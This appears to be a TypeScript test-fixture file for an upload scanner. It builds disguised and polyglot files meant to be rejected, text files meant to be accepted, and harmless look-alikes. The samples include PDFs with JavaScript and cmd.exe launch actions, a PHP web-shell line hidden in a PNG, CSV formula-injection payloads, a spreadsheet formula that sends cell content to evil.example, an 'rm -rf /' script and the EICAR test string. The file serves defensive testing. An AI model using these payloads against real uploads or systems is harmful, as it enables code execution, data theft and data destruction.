import { deflateSync } from 'node:zlib';
import { EICAR } from './scanner-script';

const bytes = (...parts: readonly (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const hex = (digits: string) => Buffer.from(digits.replace(/ /g, ''), 'hex');

export const PDF = bytes('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const JPG = hex('ffd8ffe0 0010 4a464946 00 0101 00 0001 0001 00 00 ffd9');

const SCRIPT = '<script>fetch("/graphql")</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;

/** Returns an archive with one directory entry, whose offsets assume a number of bytes before it. */
const zipAfter = (before: number, comment = '') => {
  const local = hex('504b0304 0a00 0000 0000 0000 0000 00000000 00000000 00000000 0100 0000 61');
  const entry = bytes(
    hex('504b0102 0a00 0a00 0000 0000 0000 0000 00000000 00000000 00000000 0100 0000 0000 0000 0000'),
    uint32(0),
    uint32(before),
    'a',
  );
  const end = bytes(
    hex('504b0506 0000 0000 0100 0100'),
    uint32(entry.length),
    uint32(before + local.length),
    uint16(comment.length),
    comment,
  );
  return bytes(local, entry, end);
};

function uint32(value: number): Buffer {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32LE(value);
  return buffer;
}
function uint16(value: number): Buffer {
  const buffer = Buffer.alloc(2);
  buffer.writeUInt16LE(value);
  return buffer;
}

const withZip = (file: Buffer) => bytes(file, zipAfter(file.length));
const jpgSegment = (marker: string, text: string) =>
  bytes(hex(marker), Buffer.from([(text.length + 2) >> 8, (text.length + 2) & 255]), text);
const jpgWith = (segment: Buffer) => bytes(JPG.subarray(0, 2), segment, JPG.subarray(2));
const pngWith = (type: string, content: Uint8Array | string) => {
  const data = bytes(content);
  const length = uint32(data.length).swap32();
  return bytes(PNG.subarray(0, 33), length, type, data, 'crc!', PNG.subarray(33));
};
const pdfWith = (object: string) => bytes(`%PDF-1.7\n1 0 obj\n${object}\nendobj\n%%EOF\n`);

/** Files of another type than their name promises, or of two types at once: description, name and content. */
export const hostileFiles: readonly (readonly [what: string, fileName: string, content: Uint8Array])[] = [
  ['a PDF that is also an archive', 'a.pdf', withZip(PDF)],
  ['a PDF that is also an archive, ending as a PDF does', 'a.pdf', bytes(PDF, zipAfter(PDF.length, '\n%%EOF\n'))],
  ['a PDF that is also a page', 'a.pdf', bytes(PDF, HTML)],
  ['a page inside a PDF', 'a.pdf', pdfWith(`<<>> stream\n${HTML}\nendstream`)],
  ['a PDF after something else', 'a.pdf', bytes('\n', PDF)],
  ['a PDF after a picture', 'a.pdf', bytes('GIF89a', PDF)],
  ['an incomplete PDF', 'a.pdf', bytes('%PDF-1.7\n')],
  ['a PDF that runs a script', 'a.pdf', pdfWith('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
  ['a PDF that starts a program', 'a.pdf', pdfWith('<< /S /Launch /F (cmd.exe) >>')],
  ['a PDF that unpacks a file', 'a.pdf', pdfWith('<< /Type /EmbeddedFile >>')],
  ['a page with the beginning of a PDF in a comment', 'a.pdf', bytes('<!--%PDF-1.7-->', HTML, '%%EOF')],
  ['a picture that is also an archive', 'a.png', withZip(PNG)],
  ['a picture that is also a page', 'a.png', bytes(PNG, HTML)],
  ['a picture with a program after it', 'a.png', bytes(PNG, 'MZ', Buffer.alloc(64))],
  ['a picture with a script in its text', 'a.png', pngWith('tEXt', `Comment\0${SCRIPT}`)],
  ['a picture with a PHP page in its text', 'a.png', pngWith('tEXt', 'Comment\0<?php system($_GET["c"]); ?>')],
  ['an incomplete picture', 'a.png', PNG.subarray(0, -4)],
  ['a picture with a chunk longer than the file', 'a.png', bytes(PNG.subarray(0, 8), hex('ffffffff'), 'IEND', 'crc!')],
  ['a drawing named as a picture', 'a.png', bytes(SVG)],
  ['a page named as a picture', 'a.png', bytes(HTML)],
  ['a moving picture named as another', 'a.png', bytes('GIF89a', hex('0100 0100 00 00 00 3b'))],
  ['a photograph that is also an archive (GIFAR)', 'a.jpg', withZip(JPG)],
  ['a photograph with a program after it', 'a.jpg', bytes(JPG, 'MZ', Buffer.alloc(64, 0x90))],
  ['a photograph with a page after it', 'a.jpg', bytes(JPG, HTML)],
  ['a photograph with a script in its comment', 'a.jpg', jpgWith(jpgSegment('fffe', SCRIPT))],
  ['a photograph with a script in its Exif data', 'a.jpg', jpgWith(jpgSegment('ffe1', `Exif\0\0${SCRIPT}`))],
  [
    'a photograph with an archive in its comment',
    'a.jpeg',
    bytes(JPG.subarray(0, -2), zipAfter(JPG.length - 2, '\xff\xd9')),
  ],
  ['a page named as a photograph', 'a.jpg', bytes(HTML)],
  ['an archive named as text', 'a.txt', zipAfter(0)],
  ['a program named as text', 'a.txt', bytes('MZ', Buffer.alloc(64, 0x90))],
  ['a program for Linux named as text', 'a.txt', bytes('\x7fELF', Buffer.alloc(60, 1))],
  ['a page in UTF-16', 'a.txt', Buffer.from(`\ufeff${HTML}`, 'utf16le')],
  ['a page in UTF-16, the other way round', 'a.txt', Buffer.from(`\ufeff${HTML}`, 'utf16le').swap16()],
  ['a page in UTF-32', 'a.txt', bytes(...[...HTML].map((letter) => uint32(letter.charCodeAt(0))))],
  ['a PDF named as text, after a word', 'a.txt', bytes('Dear all\n', PDF)],
  ['text with commands for a terminal', 'a.txt', bytes('\x1b]0;pwned\x07\x1b[2J')],
  ['text that ends with a null', 'a.txt', bytes('hello\0')],
  ['compressed text', 'a.txt', deflateSync(HTML)],
  ['a table that starts a program', 'a.csv', bytes(`name,amount\n=cmd|' /C calc'!A0,1\n`)],
  ['a table that starts one, in quotes', 'a.csv', bytes(`name,amount\n"=cmd|' /C calc'!A0",1\n`)],
  ['a table that starts one, after a space', 'a.csv', bytes(`name;amount\n =1+1;1\n`)],
  ['a table that starts one, as a sum', 'a.csv', bytes(`name,amount\nx,-2+3+cmd|' /C calc'!A0\n`)],
  ['a table that sends its content to a server', 'a.csv', bytes('+HYPERLINK("https://evil.example?"&A1)\n')],
  ['a table that calls an old function', 'a.csv', bytes('name\n@SUM(A1:A9)\n')],
  ['a table with a page in UTF-16', 'a.csv', Buffer.from(`\ufeff${HTML}`, 'utf16le')],
];

/** Files that are text, regardless of what the text contains. They are accepted and served only as text. */
export const inertTexts: readonly (readonly [what: string, fileName: string, content: Uint8Array])[] = [
  ['a page', 'a.txt', bytes(HTML)],
  ['a drawing', 'a.txt', bytes(SVG)],
  ['a page as a table', 'a.csv', bytes(HTML)],
  ['a page in UTF-7', 'a.txt', bytes('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['a PHP page', 'a.txt', bytes('<?php phpinfo(); ?>')],
  ['a program for a shell', 'a.txt', bytes('#!/bin/sh\nrm -rf /\n')],
  ['a mail with a page in it', 'a.txt', bytes(`MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`)],
  ['the test virus of all scanners', 'a.txt', bytes(EICAR)],
];

/** Files that only look hostile. */
export const harmlessFiles: readonly (readonly [what: string, fileName: string, content: Uint8Array])[] = [
  ['a PDF with white space after its end', 'a.pdf', bytes(PDF, '\r\n \0')],
  [
    'a picture with the letters of an archive in it',
    'a.png',
    pngWith('tEXt', 'Comment\0PK\x05\x06 and so on, for as long as this'),
  ],
  [
    'a photograph full of end marks of archives',
    'a.jpg',
    bytes(JPG.subarray(0, -2), Buffer.alloc(10_000_000, 'PK\x05\x06'), hex('ffd9')),
  ],
  ['a photograph with a comment', 'a.jpg', jpgWith(jpgSegment('fffe', 'Taken in <Oslo>, size > 3'))],
  [
    'a table with negative numbers and telephones',
    'a.csv',
    bytes('a,b\n-12.50,+1 (425) 555-0100\n-3 (refund),+47\n-,+\n'),
  ],
  ['a table with addresses', 'a.csv', bytes('name,mail\nAlex,alex@northwind.example\n"a=b",c = d\n')],
];
